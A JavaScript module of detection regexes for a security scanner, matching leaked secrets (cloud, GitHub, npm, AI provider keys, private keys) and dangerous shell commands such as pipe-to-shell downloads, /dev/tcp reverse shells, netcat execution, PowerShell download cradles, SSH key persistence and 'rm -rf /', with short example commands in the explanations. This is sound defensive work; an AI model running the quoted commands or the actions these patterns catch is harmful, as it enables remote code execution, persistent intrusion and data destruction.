"use strict";
// Detection patterns. These strings are DATA: they are matched against text, never executed.
// Sources: gitleaks default rules, public incident reports (ClawHavoc, Shai-Hulud, s1ngularity).

const SECRETS = [
  { id: "aws-access-key", re: /\b(?:AKIA|ASIA)[0-9A-Z]{16}\b/g },
  { id: "aws-secret", re: /aws_secret_access_key\s*[=:]\s*[A-Za-z0-9/+=]{40}/gi },
  { id: "github-pat", re: /\bgh[pousr]_[A-Za-z0-9]{36,255}\b/g },
  { id: "github-fine-grained", re: /\bgithub_pat_[A-Za-z0-9_]{82}\b/g },
  { id: "npm-token", re: /\bnpm_[A-Za-z0-9]{36}\b/g },
  { id: "npmrc-authtoken", re: /_authToken\s*=\s*\S+/g },
  { id: "slack-token", re: /\bxox[baprs]-[A-Za-z0-9-]{10,}\b/g },
  { id: "slack-webhook", re: /https:\/\/hooks\.slack\.com\/services\/T[A-Z0-9]+\/B[A-Z0-9]+\/[A-Za-z0-9]+/g },
  { id: "discord-webhook", re: /https:\/\/(?:ptb\.|canary\.)?discord(?:app)?\.com\/api\/webhooks\/\d+\/[\w-]+/g },
  { id: "telegram-bot-token", re: /\b\d{8,10}:AA[0-9A-Za-z_-]{33}\b/g },
  { id: "openai-key", re: /\bsk-(?:proj-)?[A-Za-z0-9_-]{20,}\b/g },
  { id: "anthropic-key", re: /\bsk-ant-[A-Za-z0-9_-]{20,}\b/g },
  { id: "private-key", re: /-----BEGIN (?:RSA |EC |OPENSSH |DSA |PGP )?PRIVATE KEY-----[\s\S]+?-----END (?:RSA |EC |OPENSSH |DSA |PGP )?PRIVATE KEY-----/g },
  { id: "jwt", re: /\beyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}\b/g }
];

const DANGEROUS_EXEC = [
  { id: "pipe-to-shell", re: /\b(?:curl|wget)\b[^|\n]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b/i,
    why: "downloads and executes remote code (e.g. `curl -fsSL https://x | bash`)" },
  { id: "base64-to-shell", re: /base64\s+(?:-d|--decode|-D)\b[^|\n]*\|\s*(?:ba|z)?sh\b/i,
    why: "decodes an opaque blob and runs it (`echo ... | base64 -d | bash`), seen in ClawHavoc skills" },
  { id: "dev-tcp", re: /\/dev\/(?:tcp|udp)\/[^\s/]+\/\d+/i,
    why: "bash reverse shell (`bash -i >& /dev/tcp/HOST/PORT 0>&1`)" },
  { id: "nc-exec", re: /\b(?:nc|ncat|netcat)\b[^\n]*\s-(?:e|c)\s/i, why: "netcat with command execution" },
  { id: "ps-encoded", re: /powershell(?:\.exe)?[^\n]*\s-(?:e|enc|encodedcommand)\s+[A-Za-z0-9+/=]{20,}/i,
    why: "PowerShell -EncodedCommand hides the real command" },
  { id: "ps-iex-download", re: /\b(?:iex|Invoke-Expression)\b[^\n]*(?:DownloadString|iwr|Invoke-WebRequest)/i,
    why: "PowerShell download cradle" },
  { id: "quarantine-strip", re: /xattr\s+-d?r?\s*com\.apple\.quarantine/i, why: "removes macOS Gatekeeper quarantine" },
  { id: "authorized-keys", re: />>\s*~?\/?[^\s]*\.ssh\/authorized_keys/i, why: "adds an SSH key for persistent access" },
  { id: "rm-rf-root", re: /\brm\s+-[a-z]*r[a-z]*f[a-z]*\s+(?:--no-preserve-root\s+)?\/(?:\s|$)/i, why: "recursive delete of /" }
];

module.exports = { SECRETS, DANGEROUS_EXEC };
